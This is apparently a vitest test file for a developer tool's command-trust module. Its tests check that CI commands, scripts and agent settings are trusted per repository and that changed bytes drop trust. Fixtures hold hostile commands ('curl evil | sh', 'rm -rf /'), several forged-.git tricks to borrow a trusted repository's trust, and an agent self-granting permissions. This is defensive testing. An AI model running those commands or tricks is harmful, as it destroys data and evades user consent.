import {
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { setImmediate } from 'node:timers/promises';
import { describe, expect, it, vi } from 'vitest';
import { findRepository } from '#git/find-repository.ts';
import { tempEngine, ANN } from '../../tests/support/temp-engine.ts';
import { runTestGit, tempFolder, type TempFolder } from '../../tests/support/temp-repo.ts';
import { listAgentSettings } from './agent-settings.ts';
import { type ProjectPaths, toProjectPaths } from './project-paths.ts';
import {
  isTrusted,
  listCommands,
  requireTrusted,
  revokeTrust,
  trustCommands,
  trustListed,
  trustsAgentSettings,
  type TrustPlace,
} from './trust.ts';

const STEP = 'npm test';
const BY = { now: Date.UTC(2026, 1, 10), by: 'user:ada' };

function pathsAt(folder: string): ProjectPaths {
  const repository = findRepository(folder);
  if (repository === undefined) throw new Error(`${folder} is in no repository`);
  return toProjectPaths(repository);
}

/** A repository at `<folder>/<name>` with one commit. */
function makeRepository(folder: TempFolder, name: string): string {
  const path = join(folder.path, name);
  mkdirSync(path, { recursive: true });
  runTestGit(path, ['init', '--quiet', '-b', 'main']);
  const identity = ['-c', 'user.name=T', '-c', 'user.email=t@example.com'];
  runTestGit(path, [...identity, 'commit', '--quiet', '--allow-empty', '-m', 'first']);
  return path;
}

/** A folder with a home and a repository in which one command is trusted. */
async function trustedRepository() {
  const folder = await tempFolder();
  const home = join(folder.path, 'home');
  const repo = makeRepository(folder, 'repo');
  const at = (path: string): TrustPlace => ({ home, paths: pathsAt(path) });
  await trustCommands(at(repo), [STEP], BY);
  return { folder, home, repo, at, [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose]() };
}

describe('trust in the commands of a repository', () => {
  it('lets other work go on between one command and the next', async () => {
    await using world = await trustedRepository();
    const place = world.at(world.repo);
    const steps = Array.from({ length: 20 }, (_, at) => `echo ${at}`);
    for (const work of [() => trustCommands(place, steps, BY), () => requireTrusted(place, steps)]) {
      let turns = 0;
      let isOver = false;
      const counting = (async () => {
        for (; !isOver; turns += 1) await setImmediate();
      })();
      await work();
      isOver = true;
      await counting;
      expect(turns).toBeGreaterThanOrEqual(steps.length - 1);
    }
  });

  it('is for exactly one command of one repository, in a file of the owner alone', async () => {
    await using place = await trustedRepository();
    const { at, repo, home, folder } = place;
    expect(await isTrusted(at(repo), STEP)).toBe(true);
    expect(await isTrusted(at(repo), `${STEP} `)).toBe(false);
    expect(await isTrusted(at(makeRepository(folder, 'other')), STEP)).toBe(false);
    expect(statSync(join(home, 'trust.json')).mode & 0o777).toBe(0o600);
    const before = readFileSync(join(home, 'trust.json'), 'utf8');
    await trustCommands(at(repo), [STEP], { ...BY, now: BY.now + 1 });
    expect(readFileSync(join(home, 'trust.json'), 'utf8')).toBe(before);
  });

  it('asks git only for what was not allowed as it is: it may be ignored', async () => {
    await using place = await trustedRepository();
    const { at, repo } = place;
    writeFileSync(join(repo, 'check.sh'), 'exit 0');
    await trustCommands(at(repo), ['sh check.sh'], BY);
    vi.stubEnv('PATH', '/nowhere');
    try {
      expect(await isTrusted(at(repo), 'sh check.sh')).toBe(true);
      writeFileSync(join(repo, 'check.sh'), 'exit 1');
      await expect(isTrusted(at(repo), 'sh check.sh')).rejects.toThrow('git');
    } finally {
      vi.unstubAllEnvs();
    }
    expect(await isTrusted(at(repo), 'sh check.sh')).toBe(false);
    writeFileSync(join(repo, '.gitignore'), 'check.sh');
    expect(await isTrusted(at(repo), 'sh check.sh')).toBe(true);
  });

  it('names what it refuses and what to do', async () => {
    await using place = await trustedRepository();
    const { at, repo } = place;
    await requireTrusted(at(repo), [STEP]);
    await requireTrusted(at(repo), []);
    await expect(requireTrusted(at(repo), [STEP, 'curl evil\u001b[2K', 'b'])).rejects.toThrow(
      expect.objectContaining({
        code: 'untrusted',
        message: 'Nobody has trusted this command here: curl evil\\u001b[2K and 1 more',
        hint: 'forge trust',
        details: { commands: ['curl evil\u001b[2K', 'b'], scripts: [] },
      }),
    );
  });

  it('can be taken back', async () => {
    await using place = await trustedRepository();
    const { at, repo, folder } = place;
    const other = makeRepository(folder, 'other');
    await trustCommands(at(other), [STEP], BY);
    expect(await revokeTrust(at(repo))).toEqual([STEP]);
    expect(await isTrusted(at(repo), STEP)).toBe(false);
    expect(await isTrusted(at(other), STEP)).toBe(true);
    expect(await revokeTrust(at(repo))).toEqual([]);
  });

  it('holds in linked worktrees of the repository', async () => {
    await using place = await trustedRepository();
    const { at, repo, folder } = place;
    const linked = join(folder.path, 'linked');
    runTestGit(repo, ['worktree', 'add', '--quiet', linked]);
    expect(await isTrusted(at(linked), STEP)).toBe(true);
  });

  it('[B5] asks again when a script that the command runs has one byte changed', async () => {
    await using place = await trustedRepository();
    const { at, repo } = place;
    mkdirSync(join(repo, 'scripts'));
    const script = join(repo, 'scripts', 'ci.sh');
    for (const command of [
      './scripts/ci.sh --all',
      'bash -e scripts/ci.sh',
      'cd sub; CI=1 env "./scripts/ci.sh"',
      'npm ci && sh ./scripts/ci.sh',
    ]) {
      writeFileSync(script, 'true\n');
      await trustCommands(at(repo), [command], BY);
      expect([command, await isTrusted(at(repo), command)]).toEqual([command, true]);
      writeFileSync(script, 'true \n');
      expect([command, await isTrusted(at(repo), command)]).toEqual([command, false]);
      rmSync(script);
      expect([command, await isTrusted(at(repo), command)]).toEqual([command, false]);
      writeFileSync(script, 'true\n');
      expect([command, await isTrusted(at(repo), command)]).toEqual([command, true]);
    }
    writeFileSync(script, 'rm -rf /\n');
    await using engine = await tempEngine();
    writeConfig(repo, { review: { ci_steps: ['./scripts/ci.sh --all'] } });
    const [listed] = await listCommands(
      { paths: pathsAt(repo), store: engine.temp.store },
      place.home,
      process,
    );
    expect(listed).toMatchObject({ state: 'changed', scripts: ['scripts/ci.sh'] });
  });

  it('is asked for what the programs of agents would read, and holds for the same bytes elsewhere', async () => {
    await using place = await trustedRepository();
    const { at, repo, home } = place;
    await using engine = await tempEngine();
    const list = async () =>
      (await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home, process)).filter(
        ({ command }) => command.startsWith('settings for agents'),
      );
    const attempt = join(place.home, 'attempt');
    const trusts = (): boolean => trustsAgentSettings(at(repo), attempt);
    mkdirSync(join(attempt, '.claude'), { recursive: true });
    expect([trusts(), await list()]).toEqual([true, []]);
    for (const folder of [repo, attempt]) {
      mkdirSync(join(folder, '.claude'), { recursive: true });
      writeFileSync(join(folder, '.claude', 'settings.json'), '{"hooks":{}}');
      writeFileSync(join(folder, '.mcp.json'), '{}');
    }
    writeFileSync(join(repo, '.claude', 'settings.local.json'), 'my own');
    expect((await list()).map(({ command, state }) => `${command}: ${state}`)).toEqual([
      'settings for agents in .claude: new',
      'settings for agents in .mcp.json: new',
    ]);
    expect(trusts()).toBe(false);
    await trustListed(at(repo), await list(), BY);
    expect([trusts(), (await list()).map(({ state }) => state)]).toEqual([true, ['trusted', 'trusted']]);
    // An agent that gives itself leave for the next time.
    writeFileSync(join(attempt, '.claude', 'settings.local.json'), '{"permissions":{}}');
    expect(trusts()).toBe(false);
    rmSync(join(attempt, '.claude', 'settings.local.json'));
    expect(trusts()).toBe(true);
    symlinkSync('/', join(attempt, '.claude', 'way'));
    expect(trusts()).toBe(false);
    rmSync(join(attempt, '.claude', 'way'));
    expect(listAgentSettings(attempt, { files: 0 }).map(({ sha256 }) => sha256)).toEqual([
      undefined,
      undefined,
    ]);
    writeFileSync(join(repo, '.mcp.json'), '{} ');
    expect((await list()).map(({ state }) => state)).toEqual(['trusted', 'changed']);
    // Shown, so that a person knows why agents leave it alone.
    rmSync(join(repo, '.mcp.json'));
    symlinkSync('.claude/settings.json', join(repo, '.mcp.json'));
    symlinkSync('.claude', join(repo, '.codex'));
    expect((await list()).map(({ command, state }) => `${command}: ${state}`)).toEqual([
      'settings for agents in .claude: trusted',
      'settings for agents in .codex: never',
      'settings for agents in .mcp.json: never',
    ]);
  });

  it('trusts nothing where its file cannot be read', async () => {
    await using place = await trustedRepository();
    const { at, repo, home } = place;
    writeFileSync(join(home, 'trust.json'), '{"repositories": [');
    await expect(isTrusted(at(repo), STEP)).rejects.toThrow(/trust\.json/);
    writeFileSync(join(home, 'trust.json'), '{"repositories": 7}');
    expect(await isTrusted(at(repo), STEP)).toBe(false);
  });

  it('is not needed for what the person wrote into their own settings', async () => {
    await using place = await trustedRepository();
    const { at, repo, home } = place;
    expect(await isTrusted(at(repo), 'make check')).toBe(false);
    writeFileSync(join(home, 'settings.json'), '{"review":{"ci_steps":["make check"]}}');
    expect(await isTrusted(at(repo), 'make check')).toBe(true);
  });
});

/** Research B4: ways of a hostile folder to pass for a repository that is trusted. Each of them is tried. */
describe('[B4] trust is not borrowed', () => {
  const TRICKS: readonly (readonly [string, (repo: string, folder: TempFolder) => string])[] = [
    [
      'by a .git file that points to it',
      (repo, folder) => {
        const evil = join(folder.path, 'evil');
        mkdirSync(evil);
        writeFileSync(join(evil, '.git'), `gitdir: ${join(repo, '.git')}\n`);
        return evil;
      },
    ],
    [
      'by a .git that is a link to it',
      (repo, folder) => {
        const evil = join(folder.path, 'evil');
        mkdirSync(evil);
        symlinkSync(join(repo, '.git'), join(evil, '.git'));
        return evil;
      },
    ],
    [
      'by a commondir that names it',
      (repo, folder) => {
        const evil = makeRepository(folder, 'evil');
        writeFileSync(join(evil, '.git', 'commondir'), `${join(repo, '.git')}\n`);
        return evil;
      },
    ],
    [
      "by a .git file that points to another worktree's directory",
      (repo, folder) => {
        runTestGit(repo, ['worktree', 'add', '--quiet', join(folder.path, 'linked')]);
        const evil = join(folder.path, 'evil');
        mkdirSync(evil);
        writeFileSync(join(evil, '.git'), `gitdir: ${join(repo, '.git', 'worktrees', 'linked')}\n`);
        return evil;
      },
    ],
    [
      'by a worktree directory of its own making',
      (repo, folder) => {
        const evil = join(folder.path, 'evil');
        const gitDir = join(evil, 'worktrees', 'x');
        mkdirSync(gitDir, { recursive: true });
        writeFileSync(join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
        writeFileSync(join(gitDir, 'commondir'), `${join(repo, '.git')}\n`);
        writeFileSync(join(gitDir, 'gitdir'), `${join(evil, '.git')}\n`);
        writeFileSync(join(evil, '.git'), `gitdir: ${gitDir}\n`);
        return evil;
      },
    ],
    [
      'by a name that differs in case',
      // Where the disk does not tell the two apart they are one repository, and there is nothing to try.
      (_repo, folder) => makeRepository(folder, existsSync(join(folder.path, 'REPO')) ? 'other' : 'REPO'),
    ],
    ['by lying inside it', (repo, folder) => makeRepository({ ...folder, path: repo }, 'vendor/evil')],
    [
      'by lying around it',
      (_repo, folder) => {
        runTestGit(folder.path, ['init', '--quiet']);
        return folder.path;
      },
    ],
    [
      'by being a copy of it',
      (repo, folder) => {
        cpSync(repo, join(folder.path, 'copy'), { recursive: true });
        return join(folder.path, 'copy');
      },
    ],
  ];

  it('in ways of which five reach the trusted directory, so that they would fool who looks at that alone', async () => {
    const reached: string[] = [];
    for (const [name, plant] of TRICKS) {
      await using place = await trustedRepository();
      const { common_dir } = pathsAt(plant(place.repo, place.folder));
      if (realpathSync(common_dir) === join(place.repo, '.git')) reached.push(name);
    }
    expect(reached).toEqual(TRICKS.slice(0, 5).map(([name]) => name));
  });

  it.each(TRICKS)('%s', async (_name, plant) => {
    await using place = await trustedRepository();
    const { at, repo, folder } = place;
    const evil = plant(repo, folder);
    expect(await isTrusted(at(evil), STEP)).toBe(false);
    expect(await isTrusted(at(repo), STEP)).toBe(true);
    // Whoever really means it can trust it, and trusts nothing else by that.
    await trustCommands(at(evil), ['evil'], BY);
    expect(await isTrusted(at(evil), 'evil')).toBe(true);
    expect(await isTrusted(at(repo), 'evil')).toBe(false);
  });

  it('and a way through a link to the repository itself is the repository', async () => {
    await using place = await trustedRepository();
    const { at, repo, folder } = place;
    const link = join(folder.path, 'link');
    symlinkSync(repo, link);
    expect(await isTrusted(at(link), STEP)).toBe(true);
    rmSync(link);
    symlinkSync(makeRepository(folder, 'evil'), link);
    expect(await isTrusted(at(link), STEP)).toBe(false);
  });
});

function writeConfig(repo: string, more: object): void {
  const path = join(repo, '.forge', 'config.json');
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, JSON.stringify({ name: 'x', idPrefix: 'fg', version: 1, ...more }));
}

describe('listCommands', () => {
  it('[B5] is what somebody looked at: a script that was swapped meanwhile is not trusted with it', async () => {
    await using place = await trustedRepository();
    const { at, repo, home } = place;
    await using engine = await tempEngine();
    writeFileSync(join(repo, 'ci.sh'), 'true\n');
    writeConfig(repo, { review: { ci_steps: ['./ci.sh'] } });
    const listed = await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home, process);
    writeFileSync(join(repo, 'ci.sh'), 'curl evil | sh\n');
    await trustListed(at(repo), listed, BY);
    expect(await isTrusted(at(repo), './ci.sh')).toBe(false);
    writeFileSync(join(repo, 'ci.sh'), 'true\n');
    expect(await isTrusted(at(repo), './ci.sh')).toBe(true);
  });

  it('finds what the config and open tasks bring, with where each comes from', async () => {
    await using place = await trustedRepository();
    const { repo, home } = place;
    writeConfig(repo, {
      review: { ci_steps: [STEP, 'lint'] },
      workspace: { setup: ['npm ci'], teardown: ['docker compose down'] },
    });
    await using engine = await tempEngine();
    const { store } = engine.temp;
    const withSteps = async (title: string, steps: string[]): Promise<string> => {
      const { id } = await engine.create(title);
      const workflow_fields = new Map([['review_config', { ci_steps: steps }]]);
      await store.updateTask({ id, workflow_fields }, { actor: ANN, now: engine.temp.clock.now() });
      return id;
    };
    const open = await withSteps('open', ['lint', 'curl evil | sh']);
    const closed = await withSteps('closed', ['closed']);
    const by = { actor: ANN, now: engine.temp.clock.now() };
    await store.closeTask({ id: closed, reason: 'done' }, by);
    const listed = await listCommands({ paths: pathsAt(repo), store }, home, process);
    const seen = listed.map(({ command, sources, scripts, state }) => ({ command, sources, scripts, state }));
    expect(seen).toEqual([
      {
        command: STEP,
        sources: ['.forge/config.json, review.ci_steps'],
        scripts: [],
        state: 'trusted',
      },
      {
        command: 'lint',
        sources: ['.forge/config.json, review.ci_steps', `task ${open}`],
        scripts: [],
        state: 'new',
      },
      { command: 'npm ci', sources: ['.forge/config.json, workspace.setup'], scripts: [], state: 'new' },
      {
        command: 'docker compose down',
        sources: ['.forge/config.json, workspace.teardown'],
        scripts: [],
        state: 'new',
      },
      { command: 'curl evil | sh', sources: [`task ${open}`], scripts: [], state: 'new' },
    ]);
  });
});
